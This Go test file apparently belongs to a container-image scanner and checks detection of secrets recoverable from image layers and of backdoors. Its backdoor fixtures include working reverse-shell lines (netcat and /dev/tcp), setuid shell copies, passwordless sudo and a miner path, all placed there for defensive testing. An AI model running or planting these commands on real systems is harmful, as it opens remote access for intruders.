package checks_test

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"strings"
	"testing"

	"github.com/shipshape-dev/shipshape/internal/checks"
	"github.com/shipshape-dev/shipshape/internal/imagetest"
	"github.com/shipshape-dev/shipshape/internal/report"
)

func pkcs8Key(t *testing.T) string {
	t.Helper()
	_, k, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
}

// evidenceFor returns the evidence of the finding of check id about path.
func evidenceFor(t *testing.T, r checks.Result, path string) (checks.Finding, checks.Evidence) {
	t.Helper()
	for _, f := range r.Findings {
		for _, e := range f.Evidence {
			if e.Path == path {
				return f, e
			}
		}
	}
	t.Fatalf("%s: no finding about %s: %+v", r.Check.ID, path, r.Findings)
	return checks.Finding{}, checks.Evidence{}
}

func TestSecretsInEveryLayer(t *testing.T) {
	key := pkcs8Key(t)
	dbPass := "Zq8-" + strings.Repeat("x7Tk", 3)
	ghp := "ghp_" + "R2d2C3poBB8kYlo7Lm4nQ1wE5rT6yU9iO0pA"
	spec := base(
		[]imagetest.File{
			imagetest.Text("/app/.env", "# prod\nDATABASE_URL=postgres://app:"+dbPass+"@db:5432/app\n"),
			imagetest.Text("/root/.ssh/id_ed25519", key),
			imagetest.Text("/app/deploy.sh", "#!/bin/sh\ncurl -H 'x' https://example.org\nGH="+ghp+"\n"),
		},
		[]imagetest.File{
			imagetest.Whiteout("/app/.env"),
			imagetest.Whiteout("/root/.ssh/id_ed25519"),
			imagetest.Text("/app/deploy.sh", "#!/bin/sh\nexec ./run\n"),
		},
		[]imagetest.File{imagetest.Text("/srv/settings.py", "TOKEN = '"+ghp+"'\n")},
	)
	rep := judge(t, spec, "")
	r := expect(t, rep, "CMP-004", checks.Fail, "Recoverable", "deleted by layer 2 but still recoverable from layer 1", "overwritten by layer 2 but still recoverable from layer 1")
	f, e := evidenceFor(t, r, "/app/.env")
	if *e.Layer != 1 || e.Line != 2 || e.Field != "rule database-url-password" || !strings.HasPrefix(e.LayerDigest, "sha256:") || f.Severity != checks.Critical {
		t.Errorf(".env evidence %+v", e)
	}
	_, e = evidenceFor(t, r, "/root/.ssh/id_ed25519")
	if e.Field != "rule private-key" || e.Line != 1 {
		t.Errorf("key evidence %+v", e)
	}
	f, e = evidenceFor(t, r, "/srv/settings.py")
	if *e.Layer != 3 || strings.Contains(f.Title, "Recoverable") || !strings.Contains(f.Title, "/srv/settings.py (layer 3)") {
		t.Errorf("a current secret: %q %+v", f.Title, e)
	}
	if len(r.Findings) != 4 {
		t.Errorf("want 4 findings (.env, key, old deploy.sh, settings.py), got %d: %+v", len(r.Findings), r.Findings)
	}
	var buf bytes.Buffer
	if err := report.WriteJSON(&buf, rep); err != nil {
		t.Fatal(err)
	}
	keyBody := strings.Split(key, "\n")[1]
	for _, secret := range []string{dbPass, ghp, keyBody} {
		if bytes.Contains(buf.Bytes(), []byte(secret)) {
			t.Errorf("the report leaks %q", secret)
		}
	}
	s6 := expect(t, rep, "CMP-006", checks.Fail, "Recoverable: .env file /app/.env: deleted by layer 2", "SSH private key /root/.ssh/id_ed25519")
	if len(s6.Findings) != 2 {
		t.Errorf("CMP-006: %+v", s6.Findings)
	}
}

func TestSensitiveFilesOfTheDistributionAreNotReported(t *testing.T) {
	spec := base([]imagetest.File{
		imagetest.Text("/var/lib/dpkg/info/dash.list", "/.\n/usr/share/dash\n/usr/share/dash/template.pfx\n"),
		imagetest.Text("/usr/share/dash/template.pfx", "0\x82\x01\x00binary"),
		imagetest.Text("/srv/app/keystore.p12", "0\x82\x01\x00binary"),
		imagetest.Exec("/usr/bin/htpasswd", imagetest.ELF(62, "")),
		imagetest.Text("/usr/lib/python3.11/test/keycert.pem", pkcs8Key(t)),
		imagetest.Text("/src/.git/config", "[core]\n"),
		imagetest.Text("/src/.git/HEAD", "ref: refs/heads/main\n"),
		imagetest.Text("/root/.bash_history", "ls\n"),
	})
	rep := judge(t, spec, "")
	r := expect(t, rep, "CMP-006", checks.Fail, "PKCS#12 keystore /srv/app/keystore.p12", ".git directory", "shell history /root/.bash_history")
	if len(r.Findings) != 3 {
		t.Errorf("the package's template.pfx, the htpasswd program and Python's test key are not findings: %+v", r.Findings)
	}
	expect(t, rep, "CMP-004", checks.Pass)
}

func TestBackdoors(t *testing.T) {
	shell := imagetest.ELF(62, "/lib64/ld-linux-x86-64.so.2") + "bash"
	spec := base(
		[]imagetest.File{
			imagetest.Exec("/usr/bin/bash", shell),
			{Path: "/tmp/.x", Content: shell, Mode: 04755},
			{Path: "/usr/local/bin/sh", Content: "other", Mode: 04755},
			imagetest.Text("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n"),
			imagetest.Text("/etc/sudoers.d/ops", "ops ALL=(ALL:ALL) NOPASSWD: ALL\n"),
			imagetest.Text("/etc/cron.d/sync", "*/5 * * * * root /opt/sync.sh\n"),
			imagetest.Exec("/opt/sync.sh", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 9001\n"),
			imagetest.Exec("/opt/.cache/xmrig", imagetest.ELF(62, "")),
			imagetest.Text("/home/app/.ssh/authorized_keys", "ssh-ed25519 AAAA test\n"),
			{Path: "/etc/shadow", Content: "root:$6$salt$abcdefghijkl:19000:0:99999:7:::\n", Mode: 0o640},
			imagetest.Text("/app/README.txt", "To debug: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
		},
		[]imagetest.File{imagetest.Whiteout("/opt/.cache/xmrig")},
	)
	rep := judge(t, spec, "")
	r := expect(t, rep, "CMP-007", checks.Fail,
		"setuid or setgid copy of the shell /usr/bin/bash: /tmp/.x",
		"setuid or setgid shell: /usr/local/bin/sh",
		"PermitRootLogin yes",
		"NOPASSWD: ALL",
		"cron entry",
		"Netcat running a shell",
		"SSH authorized_keys: /home/app/.ssh/authorized_keys",
		"root has a password set",
	)
	for _, f := range r.Findings {
		if strings.Contains(f.Title, "xmrig") || strings.Contains(f.Title, "README") {
			t.Errorf("deleted miner and prose are not backdoors in the image: %q", f.Title)
		}
		if strings.Contains(f.Title, "cron entry") && f.Severity != checks.High {
			t.Errorf("a cron entry is high, not %s", f.Severity)
		}
		if strings.Contains(f.Title, "root has a password") && strings.Contains(f.Evidence[0].Value, "abcdefghijkl") {
			t.Errorf("the hash is shown: %+v", f.Evidence)
		}
	}
	expect(t, judge(t, base(), ""), "CMP-007", checks.Pass)
}
